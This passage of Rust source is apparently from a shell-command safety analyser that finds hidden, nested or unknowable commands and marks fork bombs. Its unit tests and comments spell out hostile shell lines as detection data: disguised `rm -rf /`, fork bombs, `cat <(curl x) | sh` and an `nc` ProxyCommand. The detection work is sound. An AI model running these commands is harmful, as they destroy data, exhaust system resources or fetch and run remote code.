    if matches!(&*name_of(form), "declare" | "local" | "typeset")
        && form
            .iter()
            .any(|arg| arg.text.starts_with('-') && arg.text.contains('n'))
    {
        for arg in form.iter().skip(1).filter(|arg| arg.literal) {
            if let Some((name, target)) = arg.text.split_once('=') {
                let value = Arg {
                    text: format!("${target}"),
                    ..Arg::default()
                };
                bindings.push((name.to_owned(), vec![value]));
            }
        }
    }
    bindings
}

/// Why a `declare -n r="$1"` cannot be followed: the name it refers to is made at run time,
/// and a subscript in it (`a[$(cmd)]`) runs when `r` is assigned or read.
fn unseen_nameref(form: &[Arg]) -> Option<String> {
    let nameref = matches!(&*name_of(form), "declare" | "local" | "typeset")
        && form
            .iter()
            .any(|arg| arg.literal && arg.text.starts_with('-') && arg.text.contains('n'));
    let arg = form
        .iter()
        .skip(1)
        .find(|arg| nameref && !arg.literal && arg.text.contains('='))?;
    Some(format!(
        "`{}` refers to a name made at run time; a subscript in it would run a command",
        arg.text
    ))
}

/// Why the policy cannot know what `found` does, when no name or script says it: a destroyer
/// fed paths by `xargs`, a cleanup of home, a root reached by empty expansions, and the
/// families of harm that ask.
fn unseen_reason(found: &mut Found) -> Option<String> {
    let (reason, files_only) = match xargs_feeds_a_destroyer(found) {
        Some((reason, files_only)) => (Some(reason), files_only),
        None => (home_cleanup(found), false),
    };
    found.files_only = reason.is_some() && files_only;
    reason
        .or_else(|| builtin::empty_expansion_deletes_root(found))
        .or_else(|| builtin::file_system_on_unknown_device(found))
        .or_else(|| harm::startup_write_unseen(found))
        .or_else(|| harm::climbs_out(found))
        .or_else(|| harm::unusual_module(found))
        .or_else(|| harm::deletes_working_directory(found))
        .or_else(|| runners::unseen_package(found))
        .or_else(|| harm::remote_ask(found))
}

/// Functions exported through the environment (`env 'BASH_FUNC_f%%=() { …; }' bash -c f`):
/// their bodies, which the child bash defines and may run.
fn exported_functions(form: &[Arg]) -> Vec<(String, String)> {
    form.iter()
        .skip(1)
        .filter_map(|arg| {
            let (name, body) = arg.text.split_once('=')?;
            let name = name.strip_prefix("BASH_FUNC_")?;
            let body = body.trim_start().strip_prefix("()")?;
            Some((body.to_owned(), format!("BASH_FUNC_{name}")))
        })
        .collect()
}

/// Why the program or makefile `form` runs cannot be seen: `make -f <(…)`, `find -exec {}`
/// running what it finds.
fn unseen_program_file(form: &[Arg]) -> Option<String> {
    let name = name_of(form);
    let spelled = |arg: &Arg| matches!(arg.printed.as_deref(), Some(Printed::Text(_)));
    let made = |arg: &Arg| (arg.text.starts_with("<(") || !arg.literal) && !spelled(arg);
    if matches!(&*name, "make" | "gmake")
        && form.windows(2).any(|pair| {
            matches!(pair[0].text.as_str(), "-f" | "--file" | "--makefile") && made(&pair[1])
        })
    {
        return Some("the makefile is made at run time".to_owned());
    }
    // `find -exec {}` or `-exec sh {}`: what runs is what find finds.
    let runs_found = form.first().is_some_and(|first| first.text == "{}")
        || ((commands::is_shell(&name) || name == "source" || name == ".")
            && form.get(1).is_some_and(|arg| arg.text == "{}"));
    if runs_found {
        return Some("runs the files `find` finds".to_owned());
    }
    None
}

/// True if an interpreter is given code on its command line that is only known at run time
/// (`python3 -c "$SNIPPET"`).
fn non_literal_code(form: &[Arg]) -> bool {
    let Some(name) = commands::program(form) else {
        return false;
    };
    commands::is_language_interpreter(&name)
        && matches!(commands::program_source(form), Some(commands::ProgramSource::Inline(arg)) if !arg.literal)
}

/// The text of a start-up file given as `<(echo '…')` or `<(printf '…')` to `BASH_ENV` or
/// `ENV`.
fn startup_text(name: &str, value: &str) -> Option<String> {
    if !matches!(name, "BASH_ENV" | "ENV") {
        return None;
    }
    let inner = value.strip_prefix("<(")?.strip_suffix(')')?;
    match printed(&Walker::default().walk(inner)) {
        Printed::Text(text) => Some(text),
        _ => None,
    }
}

/// What the script a shell or `source` runs from a file holds, when the line shows it or
/// shows that it cannot: a process substitution's output, or a path known only at run time
/// (`source "$HOOK_FILE"`, `bash "$(ls -t …)"`). A path whose file name is written out
/// (`. "$NVM_DIR/nvm.sh"`) names a known script.
fn script_file(form: &[Arg], bindings: &[(String, Vec<Arg>)]) -> Option<Printed> {
    let Some(commands::ProgramSource::File(arg)) = commands::program_source(form) else {
        return None;
    };
    let name = name_of(form);
    let interpreter = commands::is_language_interpreter(&name);
    if !(commands::is_shell(&name) || interpreter || matches!(&*name, "source" | ".")) {
        return None;
    }
    if interpreter && arg.printed.is_some() {
        return None;
    }
    if let Some(printed) = &arg.printed {
        return Some((**printed).clone());
    }
    let named = |text: &str| {
        let file_name = text.rsplit('/').next().unwrap_or("");
        !(file_name.contains(['$', '`', ')']) || file_name.is_empty())
    };
    // `for f in tests/*.sh; do bash "$f"; done`: the values are the files named.
    let variable = arg.text.trim_start_matches('$');
    let variable = variable
        .strip_prefix('{')
        .and_then(|rest| rest.strip_suffix('}'))
        .unwrap_or(variable);
    let bound = bindings
        .iter()
        .rev()
        .find(|(name, _)| name == variable)
        .is_some_and(|(_, values)| values.iter().all(|value| named(&value.text)));
    (!arg.literal && !bound && !named(&arg.text)).then(|| {
        Printed::Unseen(format!(
            "`{name}` runs a script whose path is only known at run time"
        ))
    })
}

/// What the commands of a process substitution print: literal `echo`/`printf` text, the
/// output of one named tool (`kubectl completion bash`), or unseen (a decoder, a filter, a
/// project script, a value).
fn printed(found: &[Found]) -> Printed {
    if let [only] = found {
        let form = only.argv.as_slice();
        if matches!(&*name_of(form), "echo" | "printf")
            && let Some(text) = crate::printed::printed_known(form)
        {
            return Printed::Text(text);
        }
        if let Some(name) = commands::program(form)
            && form.first().is_some_and(|first| !first.text.contains('/'))
            && !relays_data(&name)
        {
            return Printed::Tool;
        }
    }
    let shown: Vec<String> = found
        .iter()
        .map(|found| {
            found
                .argv
                .iter()
                .map(|arg| arg.text.as_str())
                .collect::<Vec<_>>()
                .join(" ")
        })
        .collect();
    Printed::Unseen(format!(
        "runs what `{}` prints as a script, which cannot be seen here",
        shown.join(" | ")
    ))
}

/// True for programs whose output is their input transformed (decoders, filters, `cat`),
/// so what they print as a script is data from elsewhere.
fn relays_data(name: &str) -> bool {
    matches!(
        name,
        "base64"
            | "base32"
            | "basenc"
            | "xxd"
            | "od"
            | "openssl"
            | "gpg"
            | "gunzip"
            | "zcat"
            | "gzip"
            | "bzcat"
            | "bzip2"
            | "xz"
            | "xzcat"
            | "unxz"
            | "zstd"
            | "zstdcat"
            | "uudecode"
            | "rev"
            | "tr"
            | "cat"
            | "tac"
            | "echo"
            | "printf"
            | "sed"
            | "awk"
            | "cut"
            | "head"
            | "tail"
            | "python"
            | "python3"
            | "perl"
            | "ruby"
            | "node"
            | "yq"
            | "jq"
    )
}

/// The program a command name made by a lookup stands for: `$(command -v rm)`, `$(which
/// rm)`, `` `type -P rm` `` are `rm`; `$BASH`, `${SHELL:-/bin/sh}` and `/proc/$$/exe` a shell.
fn looked_up(text: &str) -> Option<String> {
    let inner = text
        .strip_prefix("$(")
        .and_then(|rest| rest.strip_suffix(')'))
        .or_else(|| {
            text.strip_prefix('`')
                .and_then(|rest| rest.strip_suffix('`'))
        });
    if let Some(inner) = inner {
        let words: Vec<&str> = inner.split_whitespace().collect();
        return match words.as_slice() {
            ["command", "-v" | "-V", name] | ["which", name] | ["type", "-P" | "-p", name] => {
                Some((*name).trim_matches(['"', '\'']).to_owned())
            }
            _ => None,
        };
    }
    let shell = matches!(
        text,
        "$BASH" | "${BASH}" | "$SHELL" | "${SHELL}" | "/proc/$$/exe" | "/proc/$BASHPID/exe"
    ) || text.starts_with("${SHELL:-")
        || text.starts_with("${BASH:-");
    shell.then(|| "bash".to_owned())
}

/// The directory `env -C DIR` or `env --chdir=DIR` moves to, when literal and absolute.
fn env_chdir(form: &[Arg]) -> Option<String> {
    if name_of(form) != "env" {
        return None;
    }
    let end = commands::wrapped_command(form).unwrap_or(form.len());
    let options = &form[1..end];
    let dir = options
        .iter()
        .find_map(|arg| arg.text.strip_prefix("--chdir=").map(str::to_owned))
        .or_else(|| {
            options
                .windows(2)
                .find(|pair| matches!(pair[0].text.as_str(), "-C" | "--chdir"))
                .map(|pair| pair[1].text.clone())
        })?;
    dir.starts_with('/').then(|| normalized_dir(&dir)).flatten()
}

fn name_of(form: &[Arg]) -> std::borrow::Cow<'_, str> {
    commands::program_name(form).unwrap_or_default()
}

/// The code an interpreter is given on its command line (`python -c CODE`, `awk 'PROGRAM'`).
fn inline_code(form: &[Arg]) -> Option<String> {
    let name = commands::program(form)?;
    if matches!(name.as_ref(), "awk" | "gawk" | "mawk" | "nawk") {
        return form
            .iter()
            .skip(1)
            .find(|arg| !arg.text.starts_with('-'))
            .map(|arg| arg.text.clone());
    }
    if !commands::is_language_interpreter(&name) {
        return None;
    }
    // `python -m timeit "os.system(…)"`: the module runs its arguments as code.
    if form.windows(2).any(|pair| {
        pair[0].text == "-m"
            && matches!(
                pair[1].text.as_str(),
                "timeit" | "cProfile" | "trace" | "pdb"
            )
    }) {
        return Some(
            form.iter()
                .skip(1)
                .map(|arg| arg.text.as_str())
                .collect::<Vec<_>>()
                .join("\n"),
        );
    }
    match commands::program_source(form)? {
        commands::ProgramSource::Inline(arg) => Some(arg.text.clone()),
        _ => None,
    }
}

/// The code an interpreter reads from a here-document or here-string (`python3 - <<'EOF'`).
fn fed_code(found: &Found, form: &[Arg]) -> Option<String> {
    let name = commands::program_name(form)?;
    if !commands::is_language_interpreter(&name)
        || commands::program_source(form) != Some(commands::ProgramSource::Stdin)
    {
        return None;
    }
    found
        .redirects
        .iter()
        .rev()
        .find_map(|redirect| redirect.body.clone())
}

/// What a shell reading its script from standard input gets.
enum Fed {
    /// A here-document or here-string: its script.
    Script(String),
    /// A pipe or a process substitution: a script the policy cannot see.
    Unseen,
    /// Whatever the enclosing command reads.
    Nothing,
}

fn fed_script(found: &Found) -> Fed {
    if let Some(body) = found
        .redirects
        .iter()
        .rev()
        .find_map(|redirect| redirect.body.clone())
    {
        return Fed::Script(body);
    }
    // `< <(…)`, or `< "$FILE"`: a script the line does not show.
    let from_substitution = found.redirects.iter().any(|redirect| {
        redirect.op == "<" && (redirect.target.text.starts_with("<(") || !redirect.target.literal)
    });
    if found.stdin != Stdin::Inherited || from_substitution {
        Fed::Unseen
    } else {
        Fed::Nothing
    }
}

/// The variables `read`/`mapfile`/`readarray` fill when their input is a file or a pipe
/// (not a here-string the line spells out).
fn names_read_from_data(found: &Found, form: &[Arg]) -> Option<Vec<String>> {
    let name = name_of(form);
    if !matches!(&*name, "read" | "mapfile" | "readarray") {
        return None;
    }
    let from_file = found.redirects.iter().any(|redirect| redirect.op == "<");
    let spelled = found
        .redirects
        .iter()
        .any(|redirect| redirect.body.is_some());
    if !(from_file || (found.stdin != Stdin::Inherited && !spelled)) {
        return None;
    }
    let mut names = Vec::new();
    let mut words = form.iter().skip(1);
    while let Some(arg) = words.next() {
        match arg.text.as_str() {
            "-p" | "-d" | "-n" | "-N" | "-t" | "-u" | "-i" | "-O" | "-s" | "-C" | "-c" => {
                words.next();
            }
            "-a" => names.extend(words.next().map(|arg| arg.text.clone())),
            text if text.starts_with('-') => {}
            text => names.push(text.to_owned()),
        }
    }
    if names.is_empty() && name == "read" {
        names.push("REPLY".to_owned());
    }
    Some(names)
}

/// True if `form` reports file changes without end (`inotifywait -m`, `fswatch`).
fn watches_files(form: &[Arg]) -> bool {
    match &*name_of(form) {
        "inotifywait" => form.iter().any(|arg| {
            arg.text == "--monitor"
                || (arg.text.starts_with('-')
                    && !arg.text.starts_with("--")
                    && arg.text.contains('m'))
        }),
        "fswatch" | "watchman-wait" => true,
        _ => false,
    }
}

/// True if the only expansion in `text` is the home directory (`$HOME/.config`).
fn shows_only_home(text: &str) -> bool {
    let rest = text.replace("${HOME}", "").replace("$HOME", "");
    !rest.contains(['$', '`'])
}

/// True if `found` prints lines without end: `yes`, `seq inf`, `cat /dev/zero`.
fn prints_without_end(found: &Found) -> bool {
    found.each_form().last().is_some_and(|form| {
        let words: Vec<&str> = form.iter().map(|arg| arg.text.as_str()).collect();
        match words.as_slice() {
            ["yes", ..] => true,
            // Tens of gigabytes of zeros: one endless line to whatever buffers lines.
            ["head", "-c", size, "/dev/zero" | "/dev/urandom"] => {
                size.trim_end_matches(['G', 'g', 'T', 't'])
                    .parse::<u64>()
                    .is_ok_and(|number| number >= 10)
                    && size.ends_with(['G', 'g', 'T', 't'])
            }
            ["seq", .., last] => matches!(*last, "inf" | "infinity"),
            ["cat" | "tr", ..] => words.contains(&"/dev/zero"),
            _ => false,
        }
    })
}

/// True if `form` is `xargs` told to run as many commands at once as it can (`-P 0`).
fn unbounded_parallel(form: &[Arg]) -> bool {
    name_of(form) == "xargs"
        && form.windows(2).any(|pair| {
            matches!(pair[0].text.as_str(), "-P" | "--max-procs") && pair[1].text == "0"
        })
        || form
            .iter()
            .any(|arg| matches!(arg.text.as_str(), "-P0" | "--max-procs=0"))
            && name_of(form) == "xargs"
}

/// What `found` prints, when the line shows it: a literal `echo`/`printf`, a text filter
/// given spelled-out input (`rev <<< mr`, `echo … | base64 -d`), the template of `git
/// for-each-ref --format`.
fn output_of(found: &Found) -> Option<String> {
    let form = found.each_form().last()?;
    match &*name_of(form) {
        "echo" | "printf" => crate::printed::printed_known(form),
        // `ps -e -o pid=` prints every process id: fed to `kill`, it is `kill -1`.
        "ps" if form.iter().any(|arg| {
            matches!(
                arg.text.as_str(),
                "-e" | "-A" | "ax" | "aux" | "-ax" | "-eo" | "-Ao"
            )
        }) && form.iter().any(|arg| arg.text.starts_with("pid")) =>
        {
            Some("-1\n".to_owned())
        }
        // Each line is the format with a ref's fields: the format shows what kind of line
        // it is (`delete %(refname)`). `git tag -l` and `git branch` list every ref too.
        "git" => for_each_ref_format(form).or_else(|| {
            let words: Vec<&str> = form.iter().skip(1).map(|arg| arg.text.as_str()).collect();
            matches!(
                words.as_slice(),
                ["tag"]
                    | ["tag", "-l" | "--list"]
                    | ["branch"]
                    | ["branch", "-r" | "-a" | "--list"]
            )
            .then(|| "%(refname)\n".to_owned())
        }),
        _ => {
            let input = found
                .redirects
                .iter()
                .rev()
                .find_map(|redirect| redirect.body.as_deref())?;
            // Every ref, filtered: still every ref (`grep -v HEAD`), or every ref turned
            // into a deletion (`sed 's#^ *origin/#:#'`).
            if input.contains("%(refname") {
                return match &*name_of(form) {
                    "grep" | "egrep" | "cut" | "awk" | "tr" => Some(input.to_owned()),
                    "sed"
                        if form.iter().any(|arg| {
                            let script = arg.text.as_str();
                            script.starts_with('s')
                                && script.len() > 2
                                && script[2..].contains(&format!(":{}", &script[1..2]))
                        }) =>
                    {
                        Some(":%(refname)\n".to_owned())
                    }
                    _ => None,
                };
            }
            crate::printed::filtered(form, input)
        }
    }
}

/// The `--format` of `git for-each-ref`, as the template of every line it prints.
fn for_each_ref_format(form: &[Arg]) -> Option<String> {
    if !form.iter().any(|arg| arg.text == "for-each-ref") {
        return None;
    }
    form.iter().enumerate().find_map(|(at, arg)| {
        let value = match arg.text.strip_prefix("--format=") {
            Some(value) => value,
            None if arg.text == "--format" => &form.get(at + 1)?.text,
            None => return None,
        };
        Some(format!("{value}\n"))
    })
}

/// True if a loop's condition never changes: `:` or `true` for `while` (`constant` is `:`),
/// `false` for `until`.
fn endless(condition: &ast::CompoundList, constant: &str) -> bool {
    let [ast::CompoundListItem(and_or, _)] = condition.0.as_slice() else {
        return false;
    };
    let [command] = and_or.first.seq.as_slice() else {
        return false;
    };
    and_or.additional.is_empty()
        && called_name(command).is_some_and(|name| match constant {
            ":" => matches!(name.as_str(), ":" | "true"),
            _ => name == "false",
        })
}

/// Marks as fork bombs the background commands of an endless loop's body that neither
/// waits nor stops (`while :; do sh -c 'sleep 1000' & done`): each turn adds a process, with
/// no end.
fn mark_background_flood(body: &mut [Found], list: &ast::CompoundList) {
    let starts_background = list
        .0
        .iter()
        .any(|item| matches!(item.1, ast::SeparatorOperator::Async));
    let paced = body.iter().any(|found| {
        found.argv.first().is_some_and(|first| {
            matches!(
                first.text.as_str(),
                "wait" | "sleep" | "break" | "exit" | "return" | "read" | "inotifywait"
            )
        }) && !found.fans_out
    });
    if starts_background && !paced {
        for found in body.iter_mut().filter(|found| found.fans_out) {
            found.fork_bomb = true;
        }
    }
}

/// The name a plain simple command calls; quotes do not change it (`':'|':'`).
fn called_name(command: &ast::Command) -> Option<String> {
    let ast::Command::Simple(simple) = command else {
        return None;
    };
    let word = simple.word_or_name.as_ref()?;
    Some(
        word.value
            .chars()
            .filter(|c| !matches!(c, '\'' | '"' | '\\'))
            .collect(),
    )
}

/// Marks as fork bombs the calls that fan out (`Found::fans_out`) to a function that calls,
/// directly or through others, the function they are made in: `a(){ b|b& }; b(){ a|a& }; a`
/// multiplies like `:(){ :|:& };:`.
fn mark_fork_bombs(found: &mut [Found]) {
    let caller = |found: &Found| {
        found
            .via
            .iter()
            .rev()
            .find_map(|label| label.strip_suffix("()"))
            .map(str::to_owned)
    };
    let calls: Vec<(String, String)> = found
        .iter()
        .filter_map(|found| Some((caller(found)?, found.argv.first()?.text.clone())))
        .collect();
    let reaches = |from: &str, to: &str| {
        let mut seen = vec![from.to_owned()];
        let mut index = 0;
        while let Some(name) = seen.get(index).cloned() {
            if name == to {
                return true;
            }
            for (_, callee) in calls.iter().filter(|(caller, _)| *caller == name) {
                if !seen.contains(callee) {
                    seen.push(callee.clone());
                }
            }
            index += 1;
        }
        false
    };
    for found in found.iter_mut().filter(|found| found.fans_out) {
        if let (Some(from), Some(callee)) = (caller(found), found.argv.first()) {
            found.fork_bomb |= reaches(&callee.text, &from);
        }
    }
}

/// Where `cd` or `pushd` moves to: `Some(Some(dir))` a known place (see `Found::cwd`),
/// `Some(None)` an unknown one, `None` when `form` is neither.
fn moved_to(form: &[Arg], cwd: &Option<String>) -> Option<Option<String>> {
    let name = commands::program(form)?;
    if name != "cd" && name != "pushd" {
        return None;
    }
    let mut operands = form.iter().skip(1).skip_while(|arg| {
        arg.literal && arg.text.starts_with('-') && arg.text.len() > 1 && arg.text != "--"
    });
    let mut target = operands.next();
    if target.is_some_and(|arg| arg.literal && arg.text == "--") {
        target = operands.next();
    }
    let Some(target) = target else {
        // `cd` alone goes home; `pushd` alone swaps with the stack.
        return Some((name == "cd").then(|| "~".to_owned()));
    };
    let text = target.text.as_str();
    let home_spelled = ["$HOME", "${HOME}", "~"].iter().find_map(|home| {
        text.strip_prefix(home)
            .filter(|rest| rest.is_empty() || rest.starts_with('/'))
    });
    let joined = match home_spelled {
        Some(rest) if !target.glob => format!("~{rest}"),
        _ if !target.is_plain() || text == "-" => return Some(None),
        _ if text.starts_with('/') => text.to_owned(),
        _ => match cwd {
            Some(dir) => format!("{dir}/{text}"),
            // `cd ../..`: an ancestor of wherever the line started, kept relative.
            None if text.split('/').all(|part| matches!(part, ".." | "." | "")) => {
                return Some(Some(text.to_owned()));
            }
            None => return Some(None),
        },
    };
    if joined.starts_with("..") {
        return Some(Some(joined));
    }
    Some(normalized_dir(&joined))
}

/// `/a/./b/../c` as `/a/c`, `~/x/..` as `~`; `None` for `..` above the home directory
/// (where that is depends on the home directory).
fn normalized_dir(path: &str) -> Option<String> {
    let (start, rest) = match path.strip_prefix('~') {
        Some(rest) => ("~", rest),
        None => ("", path),
    };
    let mut parts: Vec<&str> = Vec::new();
    for part in rest.split('/') {
        match part {
            "" | "." => {}
            ".." if parts.pop().is_none() && start == "~" => return None,
            ".." => {}
            other => parts.push(other),
        }
    }
    Some(match (start, parts.is_empty()) {
        ("~", true) => "~".to_owned(),
        (_, true) => "/".to_owned(),
        _ => format!("{start}/{}", parts.join("/")),
    })
}

/// Why the command is unknown if `xargs` hands arguments it reads (from its input or a
/// file) to a command that a built-in rule denies for some arguments: `echo / | xargs rm -rf`
/// is `rm -rf /`, and the arguments cannot be seen. With it, whether the harm is only to
/// files (`rm`, `chmod`, `chown`, `chgrp`), which a sandbox that confines writes bounds.
fn xargs_feeds_a_destroyer(found: &Found) -> Option<(String, bool)> {
    let forms: Vec<&[Arg]> = found.each_form().collect();
    forms.windows(2).find_map(|pair| {
        let [outer, inner] = pair else { return None };
        if commands::program(outer).as_deref() != Some("xargs") {
            return None;
        }
        let name = commands::program(inner)?;
        let recursive = || {
            inner.iter().skip(1).any(|arg| {
                let text = arg.text.as_str();
                text == "--recursive"
                    || (text.starts_with('-')
                        && !text.starts_with("--")
                        && text.contains(['r', 'R']))
            })
        };
        let destroys = match name.as_ref() {
            "rm" | "chmod" | "chown" | "chgrp" => recursive(),
            "shred" | "wipefs" | "blkdiscard" | "dd" | "kill" => true,
            other => commands::makes_file_system(other),
        };
        // Bounded to the project: the arguments are paths under `.` from the pipe alone.
        let from_file = outer
            .iter()
            .any(|arg| arg.text.starts_with("-a") || arg.text.starts_with("--arg-file"));
        // …and used as they are: no operand of the command's own (`rm -rf /{}`). chmod's
        // mode and chown's owner are its first operand.
        let own_operands = usize::from(name != "rm");
        let operands = inner
            .iter()
            .skip(1)
            .filter(|arg| !arg.text.starts_with('-') && arg.text != "{}")
            .count();
        let files_only = matches!(name.as_ref(), "rm" | "chmod" | "chown" | "chgrp")
            && found.stdin == Stdin::LocalPaths
            && !from_file
            && operands <= own_operands;
        destroys.then(|| {
            let reason = format!(
                "`xargs` gives `{name}` arguments read at run time, which a built-in rule \
                 may deny; they cannot be seen here"
            );
            (reason, files_only)
        })
    })
}

/// Why the command is unknown if it is a `find` that deletes some of the files in the home
/// directory (`find ~ -name '*.pyc' -delete`): not the home directory itself (the
/// `find-delete-root` rule denies that), but which files only shows when it runs.
fn home_cleanup(found: &Found) -> Option<String> {
    found.each_form().find_map(|form| {
        let find = builtin::find_delete(form)?;
        (find.from_home && find.narrowed && !find.from_root).then(|| {
            "`find` deletes files it picks in the home directory; which ones is only known \
             when it runs"
                .to_string()
        })
    })
}

/// Why the command is unknown if some command name (of a wrapper or of what it wraps) is not
/// a plain literal word.
fn first_unknown_name(found: &Found) -> Option<String> {
    let name = found
        .each_form()
        .filter_map(<[Arg]>::first)
        .find(|first| !first.is_plain())?;
    Some(format!(
        "the command name `{}` is only known when the shell runs it",
        name.text
    ))
}

/// The commands of `find … -exec CMD ARGS ;` (also `-execdir`, `-ok`, `-okdir`, ending `+`).
fn find_exec_commands(form: &[Arg]) -> Vec<Vec<Arg>> {
    let mut commands = Vec::new();
    let mut index = 1;
    while index < form.len() {
        if matches!(
            form[index].text.as_str(),
            "-exec" | "-execdir" | "-ok" | "-okdir"
        ) {
            let start = index + 1;
            let end = form[start..]
                .iter()
                .position(|arg| arg.text == ";" || arg.text == "+")
                .map_or(form.len(), |offset| start + offset);
            if end > start {
                commands.push(form[start..end].to_vec());
            }
            index = end;
        }
        index += 1;
    }
    commands
}

/// The words a brace expression expands to (`{a,b}c` gives `ac`, `bc`), still quoted;
/// `None` if there would be more than [`MAX_BRACE_WORDS`] or the parser fails.
fn brace_alternatives(raw: &str, pieces: &[WordPieceWithSource]) -> Option<Vec<String>> {
    use brush_parser::word::{BraceExpressionMember, BraceExpressionOrText};

    fn expand_pieces(pieces: &[BraceExpressionOrText]) -> Option<Vec<String>> {
        let mut results = vec![String::new()];
        for piece in pieces {
            let options = match piece {
                BraceExpressionOrText::Text(text) => vec![text.clone()],
                BraceExpressionOrText::Expr(members) => {
                    let mut options = Vec::new();
                    for member in members {
                        options.extend(expand_member(member)?);
                        if options.len() > MAX_BRACE_WORDS {
                            return None;
                        }
                    }
                    options
                }
            };
            if results.len().saturating_mul(options.len()) > MAX_BRACE_WORDS {
                return None;
            }
            results = results
                .iter()
                .flat_map(|prefix| {
                    options
                        .iter()
                        .map(move |option| format!("{prefix}{option}"))
                })
                .collect();
        }
        Some(results)
    }

    fn expand_member(member: &BraceExpressionMember) -> Option<Vec<String>> {
        match member {
            BraceExpressionMember::Child(pieces) => expand_pieces(pieces),
            BraceExpressionMember::NumberSequence {
                start,
                end,
                increment,
            } => {
                let values =
                    sequence(i128::from(*start), i128::from(*end), i128::from(*increment))?;
                Some(values.into_iter().map(|value| value.to_string()).collect())
            }
            BraceExpressionMember::CharSequence {
                start,
                end,
                increment,
            } => {
                let values = sequence(
                    i128::from(u32::from(*start)),
                    i128::from(u32::from(*end)),
                    i128::from(*increment),
                )?;
                Some(
                    values
                        .into_iter()
                        .filter_map(|value| u32::try_from(value).ok().and_then(char::from_u32))
                        .map(String::from)
                        .collect(),
                )
            }
        }
    }

    fn sequence(start: i128, end: i128, increment: i128) -> Option<Vec<i128>> {
        let step = if increment == 0 { 1 } else { increment.abs() };
        let count = (end - start).abs() / step + 1;
        if count > MAX_BRACE_WORDS as i128 {
            return None;
        }
        let direction = if end >= start { step } else { -step };
        Some((0..count).map(|index| start + index * direction).collect())
    }

    match parse::braces(raw, pieces) {
        Ok(Some(pieces)) => expand_pieces(&pieces),
        Ok(None) => Some(vec![raw.to_owned()]),
        Err(_) => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Walks `line` with no environment known.
    fn walk(line: &str) -> Vec<Found> {
        super::walk(line, &HashMap::new())
    }

    fn commands(line: &str) -> Vec<String> {
        walk(line)
            .iter()
            .map(|found| {
                found
                    .argv
                    .iter()
                    .map(|arg| arg.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" ")
            })
            .collect()
    }

    #[test]
    fn finds_nested_commands_outer_first() {
        assert_eq!(
            commands("echo $(rm -rf /) `id`"),
            ["echo $(rm -rf /) `id`", "rm -rf /", "id"]
        );
        assert_eq!(commands("X=$(whoami) ls"), ["ls", "whoami"]);
        assert_eq!(commands("X=$(whoami)"), ["whoami"]);
        assert_eq!(commands("cat <(curl x) | sh"), ["cat <(…)", "curl x", "sh"]);
        assert_eq!(
            commands("echo ${x:-$(rm -rf /)}"),
            ["echo ${x:-$(rm -rf /)}", "rm -rf /"]
        );
        assert_eq!(
            commands("bash -c 'ls; pwd'"),
            ["bash -c ls; pwd", "ls", "pwd"]
        );
        assert_eq!(commands("f() { rm -rf /; }; f"), ["rm -rf /", "f"]);
        assert_eq!(
            commands("find . -exec rm {} \\;"),
            ["find . -exec rm {} ;", "rm {}"]
        );
    }

    #[test]
    fn code_outside_command_words_is_found() {
        for (line, inner) in [
            ("a[$(id)]=1", "id"),
            ("let 'a[$(id)]=1'", "id"),
            ("read -r 'a[`id`]' <<< x", "id"),
            ("[[ -v 'a[$(id)]' ]]", "id"),
            ("trap -- 'id' EXIT", "id"),
            ("ssh -oProxyCommand='nc x 22' h", "nc x 22"),
            ("git -c alias.x='!id' x", "id"),
            ("GIT_SSH_COMMAND='ssh -i k' git fetch", "ssh -i k"),
            ("( ( id ) )", "id"),
            ("((id) )", "id"),
        ] {
            assert!(commands(line).contains(&inner.to_owned()), "{line}");
        }
        assert_eq!(commands("((x = 1 + 2))"), Vec::<String>::new());
        assert_eq!(commands("let 'a[1]=2'"), ["let a[1]=2"]);
        let unknown = |line: &str| walk(line).iter().any(|found| found.unknown.is_some());
        assert!(unknown("hash -p /bin/rm ls"));
        assert!(unknown("shopt -s expand_aliases"));
        assert!(!unknown("hash -r"));
    }

    #[test]
    fn braces_expand() {
        assert_eq!(commands("{rm,-rf,/}"), ["rm -rf /"]);
        assert_eq!(commands("echo a{b,c}d {1..3}"), ["echo abd acd 1 2 3"]);
        assert_eq!(commands("echo {}"), ["echo {}"]);
    }

    #[test]
    fn heredocs_expand_only_with_an_unquoted_delimiter() {
        assert_eq!(
            commands("cat <<EOF\n$(rm -rf /)\nEOF\n"),
            ["cat", "rm -rf /"]
        );
        assert_eq!(commands("cat <<'EOF'\n$(rm -rf /)\nEOF\n"), ["cat"]);
        assert_eq!(
            commands("bash <<'EOF'\nrm -rf /\nEOF\n"),
            ["bash", "rm -rf /"]
        );
    }

    #[test]
    fn fork_bombs_are_marked() {
        let found = walk(":(){ :|:& };:");
        assert!(found.iter().any(|found| found.fork_bomb));
        let found = walk(":(){ :|:; };:");
        assert!(found.iter().any(|found| found.fork_bomb));
        for harmless in [
            "f() { f; }; f",
            "walk() { walk \"$1/x\" | sort; }",
            "f() { g & }",
        ] {
            assert!(
                !walk(harmless).iter().any(|found| found.fork_bomb),
                "{harmless}"
            );
        }
    }

    #[test]
    fn command_names_from_the_environment_are_read_where_the_command_leaves_them_alone() {
        let env = crate::env::usable([
            ("VENV".to_owned(), "/w/.venv".to_owned()),
            ("HOME".to_owned(), "/home/me".to_owned()),
            ("SHELL".to_owned(), "/bin/bash".to_owned()),
        ]);
        let names = |line: &str| -> Vec<(String, bool)> {
            super::walk(line, &env)
                .iter()
                .map(|found| {
                    let first = found.argv.first().cloned().unwrap_or_default();
                    (first.text, found.unknown.is_none())
                })
                .collect()
        };
        let known = |text: &str| (text.to_owned(), true);
        let unknown = |text: &str| (text.to_owned(), false);
        assert_eq!(
            names("\"$VENV/bin/python\" -m pytest"),
            [known("/w/.venv/bin/python")]
        );
        assert_eq!(
            names("${HOME}/.cargo/bin/cargo build"),
            [known("/home/me/.cargo/bin/cargo")]
        );
        // Through a wrapper, and a launcher whose script is then walked.
        assert_eq!(
            names("timeout 5 $HOME/bin/tool; \"$SHELL\" -c 'ls'"),
            [known("timeout"), known("/bin/bash"), known("ls")]
        );
        // Assigned, read, sourced, or expanded by another shell: not known. An assigned
        // value is also walked as the command it most likely builds (`expanded.rs`).
        assert_eq!(
            names("VENV=/tmp; $VENV/bin/python"),
            [unknown("$VENV/bin/python"), known("/tmp/bin/python")]
        );
        assert_eq!(
            names("read HOME; $HOME/x"),
            [known("read"), unknown("$HOME/x")]
        );
        assert_eq!(
            names("source env.sh; $VENV/bin/python"),
            [known("source"), unknown("$VENV/bin/python")]
        );
        assert_eq!(
            names("sudo bash -c '$HOME/bin/x'"),
            [known("sudo"), unknown("$HOME/bin/x")]
        );
